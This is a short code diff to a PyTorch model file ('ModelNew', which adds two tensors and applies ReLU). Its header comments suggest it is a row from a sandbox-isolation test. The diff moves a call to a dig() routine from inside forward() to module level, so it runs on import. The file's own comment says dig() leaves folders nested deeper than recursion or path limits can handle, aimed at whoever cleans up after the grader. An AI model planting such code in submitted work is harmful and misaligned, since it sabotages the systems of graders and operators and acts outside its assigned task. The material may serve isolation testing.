@@ -2,7 +2,7 @@
 # rows: isolation 20
 # verdict: passed
 # effect: none
-# note: leaves folders in folders, deeper than a recursion or a path can go, for whoever cleans up after it
+# note: leaves folders in folders, deeper than a recursion or a path can go, for whoever cleans up after building and judging it
 import os
 
 import torch
@@ -18,8 +18,9 @@ def dig():
         here = inner
 
 
+dig()
+
+
 class ModelNew(nn.Module):
     def forward(self, x, y):
-        if not os.path.exists("deeper"):
-            dig()
         return torch.relu(x + y)
